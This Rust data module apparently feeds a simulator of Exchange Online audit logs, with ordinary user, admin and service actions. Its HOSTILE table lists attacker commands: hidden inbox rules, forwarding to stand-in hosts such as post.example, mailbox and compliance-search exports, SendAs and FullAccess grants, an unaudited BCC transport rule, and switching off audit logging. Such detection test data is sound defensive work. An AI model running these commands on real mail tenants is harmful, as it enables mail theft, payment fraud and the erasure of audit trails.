//! What is in mailboxes and sites, and what administrators and the service itself do. Data only.

pub(super) static SUBJECTS: &[&str] = &[
    "Re: Forecast",
    "Minutes",
    "Invoice 20418",
    "Re: Invoice 20418",
    "Offsite agenda",
    "Re: Contract draft",
    "Weekly report",
    "Customer escalation",
    "Lunch?",
    "Fwd: Travel booking",
    "Re: Release plan",
    "Holiday cover",
    "Budget review",
    "New joiner",
    "Re: Warehouse count",
    "Newsletter",
    "Re: Q2 numbers",
    "Interview feedback",
    "Delivery delayed",
    "Zusammenfassung für Montag",
];
pub(super) static FOLDERS: &[&str] =
    &["\\Inbox", "\\Sent Items", "\\Drafts", "\\Calendar", "\\Archive", "\\Inbox\\Projects"];
pub(super) static FILES: &[&str] = &[
    "Plan.xlsx",
    "Minutes.docx",
    "Forecast.xlsx",
    "Roadmap.pptx",
    "Contract.pdf",
    "Budget 2026.xlsx",
    "Onboarding.docx",
    "Price list.xlsx",
    "Incident report.docx",
    "Floor plan.vsdx",
    "Photo 1.jpg",
    "Résumé.docx",
    "Notes.one",
    "Supplier list.csv",
    "Board pack.pdf",
    "Statement of work.docx",
];
pub(super) static LIBRARIES: &[&str] =
    &["Shared Documents/General", "Shared Documents/Reports", "Shared Documents/2025"];

/// What people do, with weights.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Deed {
    SignIn,
    Read,
    Send,
    Edit,
    Tidy,
    Delegate,
    Files,
    Chat,
    Rule,
    Consent,
    Administer,
}

/// Of ordinary people; the last ones are rare.
pub(super) static DEEDS: &[(Deed, u32)] = &[
    (Deed::SignIn, 170),
    (Deed::Read, 260),
    (Deed::Send, 130),
    (Deed::Edit, 90),
    (Deed::Tidy, 110),
    (Deed::Delegate, 60),
    (Deed::Files, 230),
    (Deed::Chat, 60),
    (Deed::Rule, 2),
    (Deed::Consent, 1),
    (Deed::Administer, 330),
];

/// File operations, with weights.
pub(super) static FILE_DEEDS: &[(&str, u32)] = &[
    ("FileAccessed", 50),
    ("FileModified", 22),
    ("FilePreviewed", 10),
    ("FileDownloaded", 9),
    ("FileUploaded", 8),
    ("FileSyncDownloadedFull", 8),
    ("FileRenamed", 2),
    ("FileRecycled", 2),
    ("SharingSet", 1),
];

/// A command with its parameters: names and values, with gaps.
pub(super) struct Command {
    pub(super) name: &'static str,
    /// What it is done to.
    pub(super) object: &'static str,
    pub(super) parameters: &'static [(&'static str, &'static str)],
    pub(super) weight: u32,
}

const fn command(
    name: &'static str,
    weight: u32,
    object: &'static str,
    parameters: &'static [(&'static str, &'static str)],
) -> Command {
    Command { name, object, parameters, weight }
}

/// What administrators do. `$user` is some mailbox, `$forest` the path to it.
pub(super) static ADMIN: &[Command] = &[
    command("Set-Mailbox", 30, "$user", &[("Identity", "$forest/$user"), ("MailTip", "Away until Monday")]),
    command(
        "Set-Mailbox",
        12,
        "$user",
        &[("Identity", "$forest/$user"), ("GrantSendOnBehalfTo", "$forest/$other")],
    ),
    command(
        "Add-MailboxPermission",
        14,
        "$shared",
        &[
            ("Identity", "$forest/$shared"),
            ("User", "$forest/$user"),
            ("AccessRights", "FullAccess"),
            ("InheritanceType", "All"),
        ],
    ),
    command(
        "Add-RecipientPermission",
        8,
        "$shared",
        &[("Identity", "$forest/$shared"), ("Trustee", "$user"), ("AccessRights", "SendAs")],
    ),
    command(
        "Remove-MailboxPermission",
        6,
        "$shared",
        &[("Identity", "$forest/$shared"), ("User", "$forest/$user"), ("AccessRights", "FullAccess")],
    ),
    command("Set-User", 16, "$user", &[("Identity", "$forest/$user"), ("Department", "Operations")]),
    command(
        "Add-DistributionGroupMember",
        22,
        "all-$shared",
        &[("Identity", "all-$shared"), ("Member", "$user"), ("BypassSecurityGroupManagerCheck", "True")],
    ),
    command(
        "Set-CASMailbox",
        8,
        "$user",
        &[("Identity", "$user"), ("ActiveSyncEnabled", "True"), ("PopEnabled", "False")],
    ),
    command(
        "New-Mailbox",
        5,
        "$user",
        &[("Name", "$user"), ("DisplayName", "$user"), ("MicrosoftOnlineServicesID", "$user@$domain")],
    ),
    command(
        "Set-TransportRule",
        2,
        "Disclaimer",
        &[("Identity", "Disclaimer"), ("ApplyHtmlDisclaimerText", "Confidential"), ("Mode", "Enforce")],
    ),
    command(
        "New-TransportRule",
        1,
        "",
        &[
            ("Name", "Tag external mail"),
            ("FromScope", "NotInOrganization"),
            ("PrependSubject", "[External] "),
            ("Mode", "Enforce"),
        ],
    ),
    command(
        "New-ComplianceSearch",
        2,
        "Case $number",
        &[("Name", "Case $number"), ("ExchangeLocation", "$user@$domain"), ("ContentMatchQuery", "contract")],
    ),
    command(
        "Set-AdminAuditLogConfig",
        1,
        "Admin Audit Log Settings",
        &[("UnifiedAuditLogIngestionEnabled", "True")],
    ),
];

/// Rules that people make for themselves.
pub(super) static RULES: &[Command] = &[
    command(
        "New-InboxRule",
        6,
        "$forest/$user\\Newsletters",
        &[
            ("AlwaysDeleteOutlookRulesBlob", "False"),
            ("Force", "False"),
            ("MoveToFolder", "Newsletters"),
            ("Name", "Newsletters"),
            ("SubjectContainsWords", "newsletter"),
            ("StopProcessingRules", "True"),
        ],
    ),
    command(
        "New-InboxRule",
        4,
        "$forest/$user\\Alerts",
        &[
            ("AlwaysDeleteOutlookRulesBlob", "False"),
            ("Force", "False"),
            ("From", "alerts@$domain"),
            ("MoveToFolder", "Alerts"),
            ("Name", "Alerts"),
            ("MarkAsRead", "True"),
        ],
    ),
    command(
        "Set-InboxRule",
        3,
        "$forest/$user\\Alerts",
        &[
            ("AlwaysDeleteOutlookRulesBlob", "False"),
            ("Force", "False"),
            ("Identity", "$number"),
            ("Name", "Alerts"),
            ("DeleteMessage", "True"),
        ],
    ),
    command(
        "Set-MailboxAutoReplyConfiguration",
        9,
        "$user",
        &[("Identity", "$user"), ("AutoReplyState", "Scheduled"), ("ExternalMessage", "I am away.")],
    ),
    command(
        "New-InboxRule",
        1,
        "$forest/$user\\Copy",
        &[
            ("AlwaysDeleteOutlookRulesBlob", "False"),
            ("Force", "False"),
            ("ForwardTo", "$other@$domain"),
            ("Name", "Copy"),
        ],
    ),
];

/// What the service does to mailboxes and to the tenant by itself.
pub(super) static UPKEEP: &[Command] = &[
    command(
        "Set-Mailbox",
        42,
        "$place/$user",
        &[
            ("RecoverableItemsQuota", "30 GB (32,212,254,720 bytes)"),
            ("Force", "True"),
            ("ProhibitSendQuota", "99 GB (106,300,440,576 bytes)"),
            ("HiddenFromAddressListsEnabled", "False"),
            ("UseDatabaseQuotaDefaults", "False"),
            ("IssueWarningQuota", "98 GB (105,226,698,752 bytes)"),
            ("Identity", "$place/$user"),
            ("ProhibitSendReceiveQuota", "100 GB (107,374,182,400 bytes)"),
        ],
    ),
    command(
        "Set-MailboxPlan",
        30,
        "$place/ExchangeOnlineEnterprise-$number",
        &[
            ("Identity", "$place/ExchangeOnlineEnterprise-$number"),
            ("UseDatabaseRetentionDefaults", "False"),
            ("RecoverableItemsQuota", "30 GB (32,212,254,720 bytes)"),
        ],
    ),
    command(
        "Set-User",
        8,
        "$place/$user",
        &[("Identity", "$place/$user"), ("Force", "True"), ("UpdateDefaultMailboxPlan", "False")],
    ),
    command(
        "Set-TransportConfig",
        4,
        "Transport Settings",
        &[("Identity", "$organization"), ("JournalArchivingEnabled", "False")],
    ),
    command(
        "Set-OwaMailboxPolicy",
        3,
        "$organization\\OwaMailboxPolicy-Default",
        &[("InstantMessagingType", "Ocs"), ("Identity", "$organization\\OwaMailboxPolicy-Default")],
    ),
    command(
        "Set-TenantObjectVersion",
        2,
        "$organization",
        &[("Identity", "$organization"), ("DomainController", "")],
    ),
    command("Enable-AddressListPaging", 2, "", &[("Identity", "$organization")]),
    command("Install-DefaultSharingPolicy", 2, "Default Sharing Policy", &[("DomainController", "")]),
    command("Install-ResourceConfig", 2, "Resource Schema", &[("DomainController", "")]),
    command(
        "Set-RecipientEnforcementProvisioningPolicy",
        2,
        "Recipient Enforcement Provisioning Policy",
        &[("Identity", "$organization"), ("IgnoreDehydratedFlag", "True")],
    ),
    command(
        "Set-AdminAuditLogConfig",
        2,
        "Admin Audit Log Settings",
        &[("Identity", "$organization"), ("AdminAuditLogAgeLimit", "90.00:00:00")],
    ),
    command(
        "Add-MailboxPermission",
        1,
        "$place/DiscoverySearchMailbox{D919BA05-46A6-415f-80AD-7E09334BB852}",
        &[
            ("DomainController", ""),
            ("Identity", "$place/DiscoverySearchMailbox{D919BA05-46A6-415f-80AD-7E09334BB852}"),
            ("User", "$place/Discovery Management"),
            ("AccessRights", "FullAccess"),
        ],
    ),
];

/// Commands of attackers, by name in the scenarios.
pub(super) static HOSTILE: &[(&str, Command)] = &[
    (
        "hide",
        command(
            "New-InboxRule",
            0,
            "$forest/$user\\.",
            &[
                ("AlwaysDeleteOutlookRulesBlob", "False"),
                ("Force", "False"),
                ("SubjectOrBodyContainsWords", "invoice;payment;wire;iban"),
                ("MoveToFolder", "RSS Feeds"),
                ("MarkAsRead", "True"),
                ("Name", "."),
                ("StopProcessingRules", "True"),
            ],
        ),
    ),
    (
        "forward",
        command(
            "New-InboxRule",
            0,
            "$forest/$user\\..",
            &[
                ("AlwaysDeleteOutlookRulesBlob", "False"),
                ("Force", "False"),
                ("ForwardAsAttachmentTo", "archive.$user@mailbox.example"),
                ("DeleteMessage", "True"),
                ("Name", ".."),
                ("StopProcessingRules", "True"),
            ],
        ),
    ),
    (
        "redirect",
        command(
            "Set-InboxRule",
            0,
            "$forest/$user\\Alerts",
            &[
                ("AlwaysDeleteOutlookRulesBlob", "False"),
                ("Force", "False"),
                ("Identity", "$number"),
                ("RedirectTo", "$user@post.example"),
                ("Name", "Alerts"),
            ],
        ),
    ),
    (
        "mailbox",
        command(
            "Set-Mailbox",
            0,
            "$user",
            &[
                ("Identity", "$forest/$user"),
                ("ForwardingSmtpAddress", "smtp:$user@post.example"),
                ("DeliverToMailboxAndForward", "True"),
            ],
        ),
    ),
    (
        "export",
        command(
            "New-MailboxExportRequest",
            0,
            "$user",
            &[
                ("Mailbox", "$forest/$user"),
                ("FilePath", "\\\\files.example\\pst\\$user.pst"),
                ("Name", "x$number"),
            ],
        ),
    ),
    (
        "search",
        command(
            "New-ComplianceSearch",
            0,
            "x$number",
            &[
                ("Name", "x$number"),
                ("ExchangeLocation", "All"),
                ("ContentMatchQuery", "password OR confidential"),
            ],
        ),
    ),
    (
        "searchexport",
        command(
            "New-ComplianceSearchAction",
            0,
            "x$number_Export",
            &[("SearchName", "x$number"), ("Export", "True"), ("Format", "FxStream")],
        ),
    ),
    (
        "full",
        command(
            "Add-MailboxPermission",
            0,
            "$other",
            &[
                ("Identity", "$forest/$other"),
                ("User", "$forest/$user"),
                ("AccessRights", "FullAccess"),
                ("AutoMapping", "False"),
            ],
        ),
    ),
    (
        "folder",
        command(
            "Add-MailboxFolderPermission",
            0,
            "$other:\\Inbox",
            &[("Identity", "$other:\\Inbox"), ("User", "$user"), ("AccessRights", "Owner")],
        ),
    ),
    (
        "sendas",
        command(
            "Add-RecipientPermission",
            0,
            "$other",
            &[("Identity", "$forest/$other"), ("Trustee", "$user"), ("AccessRights", "SendAs")],
        ),
    ),
    (
        "blindcopy",
        command(
            "New-TransportRule",
            0,
            "",
            &[
                ("Name", "."),
                ("SetAuditSeverity", "DoNotAudit"),
                ("Mode", "Enforce"),
                ("BlindCopyTo", "collect@post.example"),
                ("SubjectOrBodyContainsWords", "password;payment;invoice"),
                ("StopRuleProcessing", "False"),
            ],
        ),
    ),
    (
        "nospam",
        command(
            "New-TransportRule",
            0,
            "",
            &[("Name", "Partner"), ("SenderDomainIs", "post.example"), ("SetSCL", "-1"), ("Mode", "Enforce")],
        ),
    ),
    (
        "ruleoff",
        command(
            "Disable-TransportRule",
            0,
            "Tag external mail",
            &[("Identity", "Tag external mail"), ("Confirm", "False")],
        ),
    ),
    (
        "connector",
        command(
            "New-InboundConnector",
            0,
            "Relay",
            &[
                ("Name", "Relay"),
                ("SenderDomains", "*"),
                ("RequireTls", "False"),
                ("SenderIPAddresses", "203.0.113.9"),
            ],
        ),
    ),
    (
        "auditoff",
        command(
            "Set-AdminAuditLogConfig",
            0,
            "Admin Audit Log Settings",
            &[("UnifiedAuditLogIngestionEnabled", "False")],
        ),
    ),
    (
        "bypass",
        command(
            "Set-MailboxAuditBypassAssociation",
            0,
            "$user",
            &[("Identity", "$user"), ("AuditBypassEnabled", "True")],
        ),
    ),
    (
        "mailboxaudit",
        command("Set-Mailbox", 0, "$other", &[("Identity", "$forest/$other"), ("AuditEnabled", "False")]),
    ),
    (
        "agelimit",
        command(
            "Set-Mailbox",
            0,
            "$other",
            &[("Identity", "$forest/$other"), ("AuditLogAgeLimit", "00:00:00")],
        ),
    ),
    ("tenantaudit", command("Set-OrganizationConfig", 0, "$organization", &[("AuditDisabled", "True")])),
];

/// Mailboxes that are nobody's own.
pub(super) static SHARED: &[&str] = &["finance", "reception", "orders", "press", "facilities"];
